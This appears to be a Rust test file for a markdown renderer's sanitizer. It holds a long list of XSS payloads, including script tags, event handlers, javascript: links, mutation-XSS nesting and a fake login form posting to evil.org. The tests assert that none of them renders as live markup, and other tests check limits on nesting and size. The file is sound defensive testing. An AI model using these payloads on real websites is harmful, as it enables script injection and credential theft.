//! Texts that mean harm, or that nobody would write.

use limpide_rendering::markdown::LONGEST;

use crate::{html, properties, rendered};

/// Attacks, from what is known of them; each is also put into a list, a quote, a table and a link.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil></sCrIpT>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi xlink:href=\"javascript:alert(1)\" href=\"javascript:alert(1)\">x</mi></math>",
    "<math><maction actiontype=\"statusline#http://evil\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<img src=x onerror=alert(1)//",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<base href=\"https://evil.org/\">",
    "<form action=\"https://evil.org\"><input name=password><button>Sign in</button></form>",
    "<iframe src=\"javascript:alert(1)\" srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.org\">",
    "<link rel=stylesheet href=https://evil.org>",
    "<div style=\"position:fixed;top:0;background:url(javascript:alert(1));width:expression(alert(1))\">x</div>",
    "<style>@import 'https://evil.org';</style>",
    "<a id=location name=document href=x>x</a><img name=body><form id=cookie>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"https://a.b\" target=_blank ping=https://evil.org>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](java&#115;cript:alert(1) \"onmouseover=alert(1)\")",
    "[x](https://a.b/\"onmouseover=\"alert(1))",
    "![x](https://a.b/c.png\"onerror=\"alert(1))",
    "![\"onerror=alert(1) x=\"](a.png)",
    "<javascript:alert(1)>",
    "<https://a.b/\"><script>alert(1)</script>>",
    "[a]: javascript:alert(1)\n\n[a]",
    "```\"><script>alert(1)</script>\nx\n```",
    "```py class=\"x\"onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\class{x\" onload=\"alert(1)}{x}$",
    "$<img src=x onerror=alert(1)>$",
    "[^<script>]: x\n\nx[^<script>]",
    "# <script>alert(1)</script> x\" onload=\"alert(1)",
    "<h1 id='x\" onload=\"alert(1)'>x</h1>",
    "<template><script>alert(1)</script></template>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
    "<table background=javascript:alert(1)><td><table></table><tr><script>alert(1)</script>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<textarea></textarea><xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<a\0href=\"javascript:alert(1)\">x</a>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<b/onclick=alert(1)><i\u{c}onclick=alert(1)>x",
    "<a href=`javascript:alert(1)`>x</a>",
    "<div tabindex=1 accesskey=x contenteditable role=dialog aria-hidden=true>x</div>",
    "<body onload=alert(1)><html onclick=alert(1)><frameset onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<img srcset=\"https://evil.org/x 2x\" src=a.png>",
    "<img src=\"https://evil.org/x.png\" lowsrc=x dynsrc=y>",
    "<p><b><p></b><a><a></p></a><table><a><tr><a><td></table>",
];

#[test]
fn no_attack_becomes_more_than_text() {
    for attack in ATTACKS {
        let ways = [
            (*attack).to_owned(),
            format!("- {attack}\n> {attack}"),
            format!("<table><tr><td>{attack}</table>{attack}"),
            format!("[{attack}](a.md)"),
            format!("|a|\n|-|\n|{attack}|"),
            format!("<a href=x title='{attack}'>{attack}"),
            format!("<svg>{attack}</svg>{attack}"),
            format!("<math>{attack}<mtext>{attack}</mtext></math>{attack}"),
            format!("<pre>{attack}</pre><details><summary>{attack}"),
        ];
        for text in ways {
            properties::markdown(text.as_bytes());
            // What remains of an attack is text: nothing of it stands in a tag.
            let html = html(&text).to_lowercase();
            assert!(
                !html.contains("<script") && !html.contains("<style") && !html.contains("<svg"),
                "{html}"
            );
        }
    }
}

#[test]
fn nothing_of_a_page_can_be_named() {
    let html = html("<a id=\"location\">x</a><i id=\"user-content-location\">y</i><a name=\"cookie\">z</a>");
    assert!(
        html.contains("id=\"user-content-location\"") && html.contains("id=\"user-content-location-1\""),
        "{html}"
    );
    assert!(!html.contains("name="), "{html}");
}

#[test]
fn depth_is_bounded() {
    for (open, close) in [
        ("<div>", "</div>"),
        ("<table><tr><td>", "</td></tr></table>"),
        ("<blockquote>", ""),
        ("<b>", "</b>"),
        ("<ul><li>", ""),
    ] {
        properties::markdown(format!("{}x{}", open.repeat(10_000), close.repeat(10_000)).as_bytes());
    }
    for again in ["> ", "+ ", "1. ", "[", "![", "*a **a ", "<!-- ", "<p><b title=x>"] {
        properties::markdown(format!("{}x", again.repeat(10_000)).as_bytes());
    }
}

#[test]
fn formulas_are_bounded() {
    for again in [
        "\\sqrt",
        "\\frac1",
        "\\frac{1}",
        "\\frac+",
        "{",
        "\\left(",
        "\\begin{matrix}",
        "x^",
        "x_{",
        "\\text{",
        "'",
        "\\hat",
        "\\mathbb",
        "\\not",
        "\\overset1",
        "\\operatorname{",
        "[",
        "\\sqrt[",
        "\\color{red}",
        "&",
        "\\\\",
        "\\begin{align}",
        "\\middle|",
        "\\big",
        "\\limits",
        "\\substack{",
        "\\genfrac",
        "\\binom1",
        "\\prod",
    ] {
        for length in [20, 200, 1990] {
            let source = again.repeat(length / again.len() + 1);
            let source = source.get(..length).unwrap();
            properties::markdown(format!("$${source}$$").as_bytes());
            properties::markdown(format!("$${source} x$$").as_bytes());
        }
    }
}

#[test]
fn the_number_of_elements_is_bounded() {
    let document = rendered(&"*a* ".repeat(LONGEST / 5));
    assert!(document.truncated);
    assert_eq!(document.html.matches("<em>").count(), 99_999);
}

#[test]
fn long_monotonous_texts_end() {
    for again in ["[", "*", "`", "$", "<", "\\", "_", "|", "#", "&", "\0", "a", ">", "![](", "<a ", "www."] {
        let text = again.repeat(LONGEST / again.len() / 8);
        assert!(!rendered(&text).truncated);
    }
}
